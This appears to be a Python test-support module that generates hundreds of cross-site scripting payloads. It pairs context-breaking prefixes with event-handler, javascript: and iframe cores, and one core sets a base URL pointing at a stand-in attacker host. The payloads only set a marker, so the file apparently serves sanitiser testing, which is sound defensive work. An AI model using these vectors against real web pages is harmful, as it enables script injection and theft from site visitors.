"""Five hundred texts that run something where a page takes them for its own: known ones, and heads before cores."""

from __future__ import annotations

from itertools import product

from tests.support.payloads import payloads

MANY = 500
HEADS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</p>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</select>",
    "</noscript>",
    "</template>",
    '" autofocus onfocus=RUN ',
    "' onmouseover=RUN x='",
    "\\u003c/script\\u003e",
    "&quot;&gt;",
    "{% endblock %}",
)
CORES = (
    "<svg data-xss onload=RUN>",
    "<img data-xss src=x onerror=RUN>",
    "<script data-xss>RUN</script>",
    "<details data-xss open ontoggle=RUN>",
    "<input data-xss autofocus onfocus=RUN>",
    "<video data-xss><source onerror=RUN></video>",
    "<a data-xss href=javascript:RUN autofocus onfocus=RUN>x</a>",
    "<iframe data-xss srcdoc='<script>parent.RUN</script>'></iframe>",
    "<svg data-xss><animate onbegin=RUN attributeName=x dur=1s>",
    "<style data-xss>@keyframes x{}</style><p style=animation-name:x onanimationstart=RUN>",
    "<form data-xss action=javascript:RUN><button autofocus onfocus=RUN>x</button></form>",
    "<meta data-xss http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base data-xss href=//evil.cn/>",
    "<object data-xss data='data:text/html,<script>RUN</script>'></object>",
    "<p data-xss onclick=RUN onpointerenter=RUN>x</p>",
    "<math data-xss><mtext><img src=x onerror=RUN></math>",
)
RUNS = "window.__xss=1"


def hostile() -> tuple[str, ...]:
    """Give as many, each another; a telephone number in one would be refused for what it is, not for what it does."""
    known = (text.replace("13812345678", "110").replace("\0", "") for text in payloads())
    made = (f"{head}{core}".replace("RUN", RUNS) for core, head in product(CORES, HEADS))
    return tuple(dict.fromkeys((*known, *made)))[:MANY]


def batches(texts: tuple[str, ...], *, longest: int, between: str = " ") -> tuple[str, ...]:
    """Set as many of them together as a field takes; one that is longer than the field is cut."""
    found: list[str] = []
    for text in texts:
        last = f"{found[-1]}{between}{text}" if found else text
        if found and len(last) <= longest:
            found[-1] = last
        else:
            found.append(text[:longest])
    return tuple(found)
